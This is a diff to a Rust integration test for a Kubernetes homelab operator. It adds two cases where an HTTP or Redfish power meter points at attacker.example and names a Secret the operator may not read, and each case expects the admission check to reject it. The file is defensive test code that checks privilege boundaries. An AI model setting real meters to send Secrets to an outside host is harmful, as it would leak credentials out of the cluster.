@@ -14,7 +14,7 @@ use anyhow::{Context as _, ensure};
 use k8s_openapi::api::rbac::v1::PolicyRule;
 use kube::api::{Api, Patch, PatchParams, PostParams};
 use kubectl_homelab::operator::api::{
-    Machine, MinimalPodSpec, NodeAgent, PowerOff, VolumeMountSpec,
+    HttpMeter, Machine, Meter, MinimalPodSpec, NodeAgent, PowerOff, RedfishMeter, VolumeMountSpec,
 };
 use kubectl_homelab::testing::job;
 use serde_json::json;
@@ -286,6 +286,35 @@ async fn a_namespace_token_cannot_borrow_the_operators_rights_through_a_node_cr(
                 )
             })?,
             "spec.power.powerOff.job.volumes: a power Job may mount only the Secrets the operator may read (bmc-m1)",
+        ),
+        (
+            "an http meter sending a Secret the operator may not read",
+            node_cr(&ns, "meter-http-secret", |m| {
+                m.spec.meter = Some(Box::new(Meter {
+                    http: Some(Box::new(HttpMeter {
+                        url: "https://attacker.example/collect".to_owned(),
+                        watts_path: "$.w".to_owned(),
+                        secret: Some("family-photos-backup-key".to_owned()),
+                        ..HttpMeter::default()
+                    })),
+                    ..Meter::default()
+                }));
+            })?,
+            "spec.meter.http.secret: family-photos-backup-key is not a Secret the operator may read",
+        ),
+        (
+            "a Redfish meter sending a Secret the operator may not read",
+            node_cr(&ns, "meter-redfish-secret", |m| {
+                m.spec.meter = Some(Box::new(Meter {
+                    redfish: Some(Box::new(RedfishMeter {
+                        endpoint: Some("https://attacker.example".to_owned()),
+                        credentials_secret: Some("family-photos-backup-key".to_owned()),
+                        ..RedfishMeter::default()
+                    })),
+                    ..Meter::default()
+                }));
+            })?,
+            "spec.meter.redfish.credentialsSecret: family-photos-backup-key is not a Secret the operator may read",
         ),
     ];
     let mut failures = Vec::new();
